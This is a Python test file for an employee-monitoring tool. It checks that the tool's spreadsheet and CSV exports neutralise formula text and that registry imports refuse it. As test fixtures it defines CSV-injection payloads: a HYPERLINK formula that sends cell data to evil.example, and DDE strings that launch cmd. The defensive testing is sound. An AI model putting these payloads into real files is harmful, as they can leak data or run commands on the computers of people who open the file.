"""The formula guard at the edges: no spreadsheet or CSV Netra writes holds a live formula (issue 22, item 8).

Every writer is opened the way a person or program would open it (``csv``, ``openpyxl``) and every
cell checked: a formula-looking text starts with ``'`` and, in XLSX, is a string cell. Registry
files refuse formula-looking names, units and positions with a ``file:line: column: reason`` error.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from monitor.cli import app
from monitor.db.schema import Activity, Employee
from monitor.db.session import session_factory, session_scope
from tests.report_seed import NOW, seed_reports

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
# What a spreadsheet would run; a guarded cell starts with an apostrophe instead.
LIVE = ("=", "+", "@", "\t", "\r")


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _zip_csv_cells(path: Path) -> list[list[str]]:
    """Every row of every CSV in a report's archive, read as text with the configured separator (`;`)."""
    import zipfile

    rows: list[list[str]] = []
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        assert names and all(n.endswith(".csv") for n in names)
        for name in names:
            text = archive.read(name).decode("utf-8-sig")
            rows += list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    return rows


def _assert_csv_guarded(rows: list[list[str]], *expected: str) -> None:
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(LIVE)], "a live formula reached a CSV cell"
    for text in expected:
        assert any(c.startswith("'" + text) for c in cells), f"{text!r} not written as guarded text"


def _assert_xlsx_guarded(path: Path | io.BytesIO, *expected: str) -> None:
    wb = load_workbook(path)
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(LIVE), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                    seen.append(cell.value)
    for text in expected:
        assert any(v.startswith("'" + text) for v in seen), f"{text!r} not written as guarded text"


# ---------------------------------------------------------------------------------------------- the guard


def test_the_guard_itself() -> None:
    from reports.cells import looks_like_formula, neutralise, sheet_row

    assert neutralise(HYPERLINK) == "'" + HYPERLINK
    for text in (DDE, AT_SUM, "-2+3", "\t=1", "\r=1"):
        assert neutralise(text).startswith("'")
    for value in ("Budi Santoso", "", 0.93, -4, None, True, "'already text"):
        assert neutralise(value) == value
    # Registry refusal is narrower: "-" is how many agencies write "none".
    for text in (HYPERLINK, " =1+1", DDE, AT_SUM, "-2+3", "+HYPERLINK(\"x\")"):
        assert looks_like_formula(text), text
    for text in ("-", "- Bagian Umum", "- (kosong)", "Budi", "+62 812 3456", "@budi", "", "Kepala Seksi (Plt.)"):
        assert not looks_like_formula(text), text

    wb = Workbook()
    ws = wb.active
    ws.append(sheet_row(ws, [HYPERLINK, "\x00=1+1", 7, None]))
    buf = io.BytesIO()
    wb.save(buf)
    row = next(load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows())
    assert [c.value for c in row[:3]] == ["'" + HYPERLINK, "'=1+1", 7]
    assert [c.data_type for c in row[:3]] == ["s", "s", "n"]


# ---------------------------------------------------------------------------------------------- reports


def _poison_report_seed(session: Session) -> None:
    """Every KAB-A name a formula, every activity text a DDE call (as a crawl or registry could once store)."""
    session.execute(update(Employee).where(Employee.nip == "198503122010011001").values(name=HYPERLINK))
    session.execute(update(Employee).where(Employee.nip == "199001012015032002").values(name=AT_SUM))
    for act in session.scalars(select(Activity).where(Activity.text.is_not(None))):
        act.text = DDE + " " + act.text
    session.commit()


def test_weekly_and_range_reports_hold_no_formula(sqlite_db: str, netra_home: Path) -> None:
    from reports.period import IsoWeek, Period, parse_day
    from reports.weekly import build_report, build_weekly_report

    session = session_factory(sqlite_db)()
    seed = seed_reports(session)
    _poison_report_seed(session)
    weekly = build_weekly_report(session, IsoWeek.parse("2026-W47"), seed.agency["KAB-A"], now=NOW)
    ranged = build_report(session, Period.days(parse_day("2026-11-01"), parse_day("2026-11-22")), None, now=NOW)
    session.commit()
    session.close()
    for reports in (weekly, ranged):
        files = {r.format: Path(r.path) for r in reports}
        assert set(files) == {"html", "pdf", "xlsx", "zip"}
        # Names in the case list and the problem accounts, posts in the case list: all guarded text.
        _assert_csv_guarded(_zip_csv_cells(files["zip"]), HYPERLINK, AT_SUM, DDE)
        _assert_xlsx_guarded(files["xlsx"], HYPERLINK, AT_SUM, DDE)


def test_self_audit_report_csv_and_xlsx_hold_no_formula(session: Session) -> None:
    from models.profile import load_profile_text
    from monitor.selfaudit.workflow import run_self_audit
    from tests.report_seed import PROFILE_YAML
    from tests.test_self_audit import KeywordFake

    seed_reports(session)
    _poison_report_seed(session)
    outcome = run_self_audit(session, "KAB-A", KeywordFake(), load_profile_text(PROFILE_YAML, "test"), now=NOW)
    session.commit()
    files = {r.format: Path(r.path) for r in outcome.reports}
    _assert_csv_guarded(_zip_csv_cells(files["zip"]), HYPERLINK, DDE)
    _assert_xlsx_guarded(files["xlsx"], HYPERLINK, DDE)


# ---------------------------------------------------------------------------------------------- web exports


def test_web_exports_hold_no_formula(sqlite_db: str) -> None:
    from tests.web_support import make_env

    web = make_env(sqlite_db)
    with session_scope(sqlite_db) as s:
        s.execute(update(Employee).where(Employee.nip == "198503122010011001").values(name=HYPERLINK, unit=AT_SUM))
        for act in s.scalars(select(Activity).where(Activity.text.is_not(None))):
            act.text = DDE
    admin = web.client("admin")
    for what in ("queue", "decisions"):
        response = admin.get(f"/export/{what}.csv?status=all")
        assert response.status_code == 200
        _assert_csv_guarded(list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")))
    body = admin.get("/export/queue.csv?status=all").content.decode("utf-8-sig")
    _assert_csv_guarded(list(csv.reader(io.StringIO(body), delimiter=";")), HYPERLINK, AT_SUM, DDE)
    xlsx = admin.get("/export/queue.xlsx?status=all")
    assert xlsx.status_code == 200
    _assert_xlsx_guarded(io.BytesIO(xlsx.content), HYPERLINK, AT_SUM, DDE)


# ---------------------------------------------------------------------------------------------- export activities


def test_export_activities_csv_is_guarded_unless_raw(sqlite_db: str, tmp_path: Path) -> None:
    from tests.test_export import _seed

    _seed(sqlite_db)
    with session_scope(sqlite_db) as s:
        for act in s.scalars(select(Activity)):
            act.text, act.context_text = HYPERLINK, AT_SUM
    runner = CliRunner()
    guarded, raw, jsonl = tmp_path / "acts.csv", tmp_path / "raw.csv", tmp_path / "acts.jsonl"
    result = runner.invoke(app, ["export", "activities", "--format", "csv", "--output", str(guarded)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(guarded.read_text(encoding="utf-8"))))
    assert len(rows) == 2
    assert {r["text"] for r in rows} == {"'" + HYPERLINK} and {r["context"] for r in rows} == {"'" + AT_SUM}
    _assert_csv_guarded(_csv_cells(guarded), HYPERLINK, AT_SUM)
    # The machine form and JSONL carry the text exactly as captured.
    result = runner.invoke(app, ["export", "activities", "--format", "csv", "--output", str(raw), "--raw"])
    assert result.exit_code == 0, result.output
    raw_rows = list(csv.DictReader(io.StringIO(raw.read_text(encoding="utf-8"))))
    assert {r["text"] for r in raw_rows} == {HYPERLINK} and {r["context"] for r in raw_rows} == {AT_SUM}
    result = runner.invoke(app, ["export", "activities", "--format", "jsonl", "--output", str(jsonl)])
    assert result.exit_code == 0, result.output
    assert {json.loads(line)["text"] for line in jsonl.read_text().splitlines()} == {HYPERLINK}


# ---------------------------------------------------------------------------------------------- registry

HEADER = "nip,nama,instansi,kode_instansi,unit_kerja,jabatan,status,platform,akun\n"
GOOD = "197701022003121002,Budi Santoso,Dinas Pendidikan,disdik,SDN 1,-,PPPK,x,https://x.com/BudiS\n"


def _registry_csv(tmp_path: Path, name: str, nama: str = "Rina Pratiwi", unit: str = "Bidang P2P",
                  jabatan: str = "Analis") -> Path:
    row = ["198503122010011001", nama, "Dinas Kesehatan", "dinkes", unit, jabatan, "PNS", "bluesky", "rina.bsky.social"]
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(row)
    path = tmp_path / name
    path.write_text(HEADER + GOOD + buf.getvalue(), encoding="utf-8")
    return path


@pytest.mark.parametrize(("column", "fields"), [
    ("nama", {"nama": HYPERLINK}),
    ("unit_kerja", {"unit": DDE}),
    ("jabatan", {"jabatan": AT_SUM}),
])
def test_registry_csv_refuses_formula_text(session: Session, tmp_path: Path, column: str,
                                           fields: dict[str, Any]) -> None:
    from monitor.registry.importer import import_registry

    path = _registry_csv(tmp_path, f"{column}.csv", **fields)
    result = import_registry(session, path)
    assert not result.written
    [error] = result.errors
    assert str(error).startswith(f"{path}:3: {column}: ") and "formula" in str(error)
    assert session.scalar(select(Employee.id)) is None  # the good row is not written either


def test_registry_xlsx_refuses_a_formula_stored_as_text(session: Session, tmp_path: Path) -> None:
    from monitor.registry.importer import import_registry

    wb = Workbook()
    ws = wb.active
    ws.append(["NIP", "Nama", "Instansi", "Unit Kerja", "Jabatan", "Status"])
    ws.append(["198503122010011001", "Rina Pratiwi", "Dinas Kesehatan", "P2P", "-", "PNS"])
    ws.append(["197701022003121002", "x", "Dinas Pendidikan", "SDN 1", "Guru", "PPPK"])
    ws["B3"].value = HYPERLINK
    ws["B3"].data_type = "s"  # how Excel keeps a formula typed as text: a string cell
    path = tmp_path / "reg.xlsx"
    wb.save(path)
    assert load_workbook(path, data_only=True).active["B3"].value == HYPERLINK
    result = import_registry(session, path)
    assert not result.written
    assert [str(e) for e in result.errors] == [
        f"{path}:3: nama: {HYPERLINK[:40] + '…'!r} looks like a spreadsheet formula, not text "
        "(NIP 197701022003121002); write the plain value"]
    # A lone "-" (no position) is data, not a formula.
    ws["B3"].value = "Budi Santoso"
    wb.save(path)
    assert import_registry(session, path).written


def test_registry_cli_names_the_row(sqlite_db: str, tmp_path: Path) -> None:
    path = _registry_csv(tmp_path, "reg.csv", nama=HYPERLINK)
    result = CliRunner().invoke(app, ["registry", "import", str(path)])
    assert result.exit_code == 1
    assert f"{path}:3: nama: " in result.output and "nothing was written" in result.output
    with session_scope(sqlite_db) as s:
        assert s.scalar(select(Employee.id)) is None
